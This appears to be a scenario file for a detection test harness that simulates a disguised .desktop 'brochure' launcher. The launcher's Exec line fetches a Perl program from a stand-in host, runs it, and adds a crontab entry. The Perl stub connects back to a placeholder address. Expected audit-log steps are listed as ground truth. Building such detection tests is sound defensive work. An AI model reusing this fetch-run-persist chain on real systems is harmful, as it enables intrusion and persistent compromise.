# A launcher from a web page: what looks like a brochure is a command line.
title="Launcher saved by Chromium, opened, its shell fetches a program and adds a crontab line"
what="The clerk downloads Brochure.desktop from a private webmail account with Chromium and opens it (gio launch, the real one). Its Exec line starts a shell which fetches a Perl program from 203.0.113.66 into ~/.cache, runs it and adds a crontab line for it."
host=ws3.example.org user=clerk daemons="cron" audit_rules=audit-wide.rules

setup() {
  mkdir -p "$base/out/www/m"
  printf '[Desktop Entry]\nType=Application\nName=Brochure\nIcon=application-pdf\nTerminal=false\nExec=bash -c "mkdir -p $HOME/.cache/br; wget -q -O $HOME/.cache/br/u http://drop.example.net/m/u; perl $HOME/.cache/br/u; echo 0 9 \\\\* \\\\* \\\\* perl $HOME/.cache/br/u | crontab -"\n' > "$base/out/www/m/Brochure.desktop"
  printf 'use IO::Socket::INET;\nmy $s = IO::Socket::INET->new("203.0.113.67:9001") or exit;\nprint $s "here\\n";\n' > "$base/out/www/m/u"
}
act() {
  small_talk 1
  display_up
  chromium_as clerk https://webmail.example.com/m/Brochure.desktop
  wait_file /home/clerk/Downloads/Brochure.desktop 40
  sleep 3
  desktop_close
  desktop_as clerk -- /usr/bin/gio launch /home/clerk/Downloads/Brochure.desktop; desktop_wait
  wait_file /var/spool/cron/crontabs/clerk 10
  small_talk 1
}
truth() {
  net_step visit 'chromium.* 203.0.113.83:443' 'the browser visits a webmail service that is not ours'
  file_step save 'chromium.* (rename|link).*Brochure.desktop' 'the browser saves the launcher'
  exec_step open 'gio launch' 'it is opened'
  exec_step execute 'bash -c mkdir -p' 'its line starts a shell'
  net_step fetch 'wget 203.0.113.66:80' 'which fetches a program'
  exec_step job 'crontab -' 'and makes a job of it'
}
